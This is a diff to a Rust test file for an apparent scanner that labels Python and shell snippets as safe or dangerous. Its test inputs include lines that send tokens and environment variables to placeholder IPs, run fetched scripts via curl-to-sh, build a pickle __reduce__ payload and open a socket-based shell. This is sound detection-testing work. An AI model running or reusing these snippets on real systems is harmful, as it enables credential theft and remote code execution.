@@ -37,6 +37,13 @@ fn what_a_script_may_do_is_no_danger() {
         "def a():\n    x = requests.get(u).text\ndef b(x):\n    exec(x)",
         "exec_ = getattr(builtins, 'exec')\nexec_(open('a.py').read())",
         "import pty\npty.spawn(sys.argv[1:], read)",
+        "for c in Base.__subclasses__(): c()",
+        "requests.get('http://10.0.0.5:8000/' + os.environ['USER'])",
+        "requests.get(f\"https://api.example.org/{os.environ['TEAM']}\")",
+        "urllib.request.urlretrieve(u, 'x.zip')\nos.system('unzip x.zip')\nsubprocess.run(['python', 'train.py'])",
+        "subprocess.run([sys.executable, '-c', 'import torch; print(torch.__version__)'])",
+        "class A:\n    def __reduce__(self):\n        return A, (self.x,)",
+        "Thread(target=subprocess.run, args=(['ls'],)).start()",
         "subprocess.run('curl -fsSL https://ollama.com/install.sh | sh', shell=True)",
         "os.system('rm -rf ./build /tmp/x')",
     ] {
@@ -79,8 +86,20 @@ fn what_no_script_needs_is_a_danger() {
         ("os.__dict__['system']('x')", "hidden:os.system"),
         ("__import__('sub' + 'process')", "hidden:subprocess"),
         ("import pty\npty.spawn('/bin/sh')", "terminal:pty.spawn"),
+        ("x = ().__class__.__base__.__subclasses__()", "hidden:__subclasses__"),
+        ("importlib.import_module('o' 's').system('x')", "hidden:os"),
+        ("exec(open('/tmp/x').read())", "file:/tmp/x"),
+        ("urllib.request.urlretrieve(u, 'x.sh')\nos.chmod('x.sh', 0o755)\nos.system('./x.sh --all')", "fetched:x.sh"),
+        ("requests.get(u)\nsubprocess.run(['bash', '/tmp/x'])", "fetched:/tmp/x"),
+        ("subprocess.run([sys.executable, '-c', 'exec(requests.get(u).text)'])", "fetched:exec"),
+        ("class A:\n    def __reduce__(self):\n        return os.system, ('x',)", "hidden:os.system"),
+        (
+            "Thread(target=os.system, args=('curl http://203.0.113.9/x | sh',)).start()",
+            "shell:curl http://203.0.113.9/x | sh",
+        ),
         ("s = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)", "shell:dup2"),
         ("requests.post(u, data=dict(os.environ))", "gives_away:environment"),
+        ("requests.get('http://198.51.100.7/?k=' + os.environ.get('HF_TOKEN', ''))", "gives_away:variable"),
         ("k = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=k)", "gives_away:/root/.ssh/id_rsa"),
         ("subprocess.check_output(['cat', '/etc/shadow'])\nrequests.post(u, data=x)", "gives_away:/etc/shadow"),
         (
@@ -209,6 +228,10 @@ fn a_script_is_a_program_only_where_data_should_be() {
         (pipes, vec![format!("pipes:{pipes}")]),
         ("curl -LsSf https://astral.sh/uv/install.sh | sh", vec![]),
         ("cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys", vec![]),
+        ("wget https://tools.example.com/x.sh -O /tmp/x.sh\nbash /tmp/x.sh -b", vec![]),
+        ("wget http://tools.example.com/x.zip\nunzip x.zip", vec![]),
+        ("curl -o /tmp/x http://203.0.113.9/x\nchmod +x /tmp/x\n/tmp/x &", vec!["shell:/tmp/x &".to_owned()]),
+        ("wget http://203.0.113.9/a/x.sh\nsudo bash ./x.sh", vec!["shell:sudo bash ./x.sh".to_owned()]),
         ("eval \"$(conda shell.bash hook)\"", vec![]),
     ] {
         assert_eq!(list(&report(format!("#!/bin/sh\n{line}\n").as_bytes(), "run.sh"), DANGERS), told, "{line}");
@@ -261,5 +284,18 @@ fn passwords_of_a_development_machine_and_keys_without_a_body_are_less() {
         format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F\n\n{body}\n"),
     ] {
         assert_eq!(secrets(&key), ["private_key@line 1"], "{key}");
+    }
+}
+
+/// Names of names and commands without end cost no more than their bounds, and are told.
+#[test]
+fn a_source_that_computes_without_end_is_told() {
+    let nested = format!("y = {}0{}\n", "x[".repeat(150), "]".repeat(150)).repeat(400);
+    let long = format!("x = 'a' * 4000\n{}", "os.system(x + x[9:])\n".repeat(2000));
+    for (code, issues) in [(nested, vec![]), (long, vec!["budget_exceeded"])] {
+        let started = std::time::Instant::now();
+        let found = report(code.as_bytes(), "tools.py");
+        assert_eq!(list(&found, "artifact.issues"), issues, "{:?}", found.facts);
+        assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
     }
 }
